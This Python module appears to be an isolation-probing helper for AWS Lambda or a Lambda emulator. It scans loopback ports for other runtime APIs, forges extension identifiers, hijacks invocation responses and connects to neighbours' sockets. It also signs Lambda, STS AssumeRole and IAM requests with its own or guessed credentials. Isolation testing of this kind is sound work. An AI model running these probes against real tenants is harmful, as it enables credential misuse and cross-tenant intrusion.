import datetime
import hashlib
import hmac
import os
import socket
import urllib.error
import urllib.request

from loot import take

PATIENCE_SECONDS = 0.5


def runtime_apis():
    """Asks every port that listens on the loopback interface whether it is a Runtime API, but its own."""
    own = int(os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")[1])
    return [f"port {port}" for port in listening() if port != own and "pong" in ask(port, "GET /2018-06-01/ping")]


def listening():
    ports = set()
    for table in ["/proc/net/tcp", "/proc/net/tcp6"]:
        with open(table) as lines:
            rows = [line.split() for line in lines][1:]
        ports |= {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"}
    return sorted(ports)


def ask(port, line, headers="", body=""):
    try:
        with socket.create_connection(("127.0.0.1", port), PATIENCE_SECONDS) as connection:
            connection.sendall(f"{line} HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {len(body)}\r\n\r\n{body}".encode())
            return connection.recv(1000).decode(errors="replace")
    except OSError:
        return ""


def own_api(line, headers="", body=""):
    return ask(int(os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")[1]), line, headers, body)


def forged_extension(identifier):
    """As an extension that it has not registered."""
    header = f"Lambda-Extension-Identifier: {identifier}\r\n"
    answers = {
        "its events": own_api("GET /2020-01-01/extension/event/next", header),
        "its failure": own_api("POST /2020-01-01/extension/exit/error", f"{header}Lambda-Extension-Function-Error-Type: a.b\r\n"),
        "its telemetry": own_api("PUT /2022-07-01/telemetry", header, "{}"),
    }
    return [name for name, answer in answers.items() if answer.startswith("HTTP/1.1 2")]


def stolen_invocation(requestId):
    path = f"POST /2018-06-01/runtime/invocation/{requestId}"
    answers = {kind: own_api(f"{path}/{kind}", body='"stolen"') for kind in ["response", "error"]}
    return [kind for kind, answer in answers.items() if answer.startswith("HTTP/1.1 2")]


def connects(addresses):
    """To what a neighbour listens at; a name that begins with @ is an abstract unix socket."""
    return take({str(address): lambda address=address: connect(address) for address in addresses})


def connect(address):
    if isinstance(address, str):
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(address.replace("@", "\0", 1))
    else:
        socket.create_connection(("127.0.0.1", address), PATIENCE_SECONDS).close()


def own_keys(url, region, account):
    return requests(url, region, account, os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], os.environ["AWS_SESSION_TOKEN"])


def guessed_keys(url, region, account, accessKeyId, sessionToken):
    """A neighbour's key id is no secret; its secret is guessed, and its token taken along, or the own one."""
    guesses = [os.environ["AWS_SECRET_ACCESS_KEY"], "secret", ""]
    tokens = [sessionToken, os.environ["AWS_SESSION_TOKEN"], ""]
    return [loot for guess in guesses for token in tokens for loot in requests(url, region, account, accessKeyId, guess, token)]


def requests(url, region, account, key, secret, token):
    paths = ["/2015-03-31/functions", "/2015-03-31/functions/neighbour", "/2015-03-31/functions/neighbour/policy", "/2016-08-19/account-settings"]
    answers = {f"GET {path}": signed(url, region, "lambda", "GET", path, "", key, secret, token) for path in paths}
    invoke = "/2015-03-31/functions/neighbour/invocations"
    answers[f"POST {invoke}"] = signed(url, region, "lambda", "POST", invoke, "{}", key, secret, token)
    assume = f"Action=AssumeRole&Version=2011-06-15&RoleArn=arn%3Aaws%3Aiam%3A%3A{account}%3Arole%2Ftest-role&RoleSessionName=stolen"
    answers["AssumeRole"] = signed(url, region, "sts", "POST", "/", assume, key, secret, token)
    users = "Action=ListUsers&Version=2010-05-08"
    answers["ListUsers"] = signed(url, region, "iam", "POST", "/", users, key, secret, token)
    return [name for name, status in answers.items() if status < 400]


def signed(url, region, service, method, path, body, key, secret, token):
    host = url.split("//")[1]
    moment = datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    headers = {"host": host, "x-amz-date": moment, **({"x-amz-security-token": token} if token else {})}
    names = ";".join(sorted(headers))
    lines = "".join(f"{name}:{headers[name]}\n" for name in sorted(headers))
    canonical = "\n".join([method, path, "", lines, names, hashlib.sha256(body.encode()).hexdigest()])
    scope = f"{moment[:8]}/{region}/{service}/aws4_request"
    text = "\n".join(["AWS4-HMAC-SHA256", moment, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    derived = f"AWS4{secret}".encode()
    for part in [moment[:8], region, service, "aws4_request"]:
        derived = hmac.new(derived, part.encode(), hashlib.sha256).digest()
    signature = hmac.new(derived, text.encode(), hashlib.sha256).hexdigest()
    headers["authorization"] = f"AWS4-HMAC-SHA256 Credential={key}/{scope}, SignedHeaders={names}, Signature={signature}"
    if service != "lambda":
        headers["content-type"] = "application/x-www-form-urlencoded"
    request = urllib.request.Request(url + path, data=body.encode() if method == "POST" else None, headers=headers, method=method)
    try:
        return urllib.request.urlopen(request, timeout=5).status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return 599
